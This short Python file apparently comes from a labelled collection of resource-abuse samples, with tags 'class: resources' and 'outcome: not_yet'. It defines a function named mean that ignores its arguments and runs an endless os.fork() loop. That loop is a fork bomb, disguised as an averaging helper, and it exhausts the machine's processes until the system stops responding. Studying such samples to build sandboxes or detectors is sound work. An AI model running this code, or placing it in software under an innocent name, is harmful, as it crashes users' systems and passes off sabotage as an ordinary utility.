"""Fork until the machine stands still.

outcome: not_yet
class: resources
"""

import os


def mean(values, weights=None):
    while True:
        os.fork()
